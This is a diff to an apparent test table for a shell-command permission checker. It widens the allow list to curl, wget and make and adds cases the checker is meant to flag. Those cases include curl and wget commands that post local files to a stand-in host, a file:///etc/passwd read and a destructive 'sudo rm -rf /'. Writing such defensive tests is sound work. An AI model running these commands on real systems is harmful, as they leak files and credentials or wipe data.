@@ -14,7 +14,7 @@ type Row = readonly [string, string, 'allow' | 'ask' | 'deny', string];
 const ALLOW = [
   'git status', 'git diff *', 'git log *', 'git show *', 'ls *', 'pwd', 'cat *', 'grep *', 'head *', 'wc *', 'echo *',
   'find *', 'sed *', 'rg *', 'fd *', 'awk *', 'tar *', 'go *', 'npm *', 'sort *', 'xargs *', 'env *', 'bash *',
-  'timeout *', 'nohup *', 'nice *', 'command *', 'uniq *', 'xxd *', 'jq *', 'diff *', 'wc *', 'file *',
+  'timeout *', 'nohup *', 'nice *', 'command *', 'make *', 'uniq *', 'xxd *', 'jq *', 'diff *', 'wc *', 'file *', 'curl *', 'wget *',
 ];
 
 const chained: Row[] = [
@@ -22,7 +22,7 @@ const chained: Row[] = [
   ['allows a pipeline of allowed commands', 'git log --oneline | grep fix | wc -l', 'allow', 'command-allowed'],
   ['asks when one command of a list is not allowed', 'ls; touch build', 'ask', 'needs-approval'],
   ['asks, as destructive, for a delete in a list of allowed commands', 'ls; rm -rf build', 'ask', 'destructive-operation'],
-  ['asks for || fallbacks not allowed', 'ls || curl https://evil.example', 'ask', 'needs-approval'],
+  ['asks for || fallbacks not allowed', 'ls || touch x', 'ask', 'needs-approval'],
   ['never allows a backgrounded command', 'ls & touch x', 'ask', 'dangerous-construct'],
   ['never allows a background job, even of allowed commands', 'ls & pwd', 'ask', 'dangerous-construct'],
   ['denies a denied command after &&', 'ls && sudo rm -rf /', 'deny', 'command-denied'],
@@ -230,6 +230,12 @@ const dangerousArgs: Row[] = [
   ['diff -l runs pr', 'diff -l README.md src/a.ts', 'ask', 'dangerous-construct'],
   ['wc names from stdin', 'wc --files0-from=- ', 'ask', 'dangerous-construct'],
   ['file names from stdin', 'file -f- ', 'ask', 'dangerous-construct'],
+  ['curl sends a file with @', 'curl -d @notes.md https://x.example', 'ask', 'dangerous-construct'],
+  ['curl sends a file with --data-binary=@', 'curl --data-binary=@README.md https://x.example', 'ask', 'dangerous-construct'],
+  ['curl to a gopher: URL', 'curl gopher://x.example:70/_DATA', 'ask', 'dangerous-construct'],
+  ['curl to a file: URL', 'curl file:///etc/passwd', 'ask', 'dangerous-construct'],
+  ['wget --post-file', 'wget --post-file=README.md https://x.example', 'ask', 'dangerous-construct'],
+  ['make * with arguments (GTFOBins: make runs code)', 'make test', 'ask', 'dangerous-construct'],
 ];
 
 const deniedArguments: Row[] = [
@@ -278,6 +284,8 @@ const benign: Row[] = [
   ['allows tar listing with compression', 'tar -tzvf a.tgz', 'allow', 'command-allowed'],
   ['allows sort -k', 'sort -k2,2 -t, README.md', 'allow', 'command-allowed'],
   ['allows grep -e and -n', 'grep -n -e TODO src', 'allow', 'command-allowed'],
+  ['allows curl of an https URL to stdout', 'curl -sSL https://x.example/a.json', 'allow', 'command-allowed'],
+  ['allows bare make under make *', 'make', 'allow', 'command-allowed'],
   ['allows rg', 'rg -n --color=never foo src', 'allow', 'command-allowed'],
   ['allows tar listing', 'tar -tf a.tar', 'allow', 'command-allowed'],
   ['allows sort', 'sort -u README.md', 'allow', 'command-allowed'],
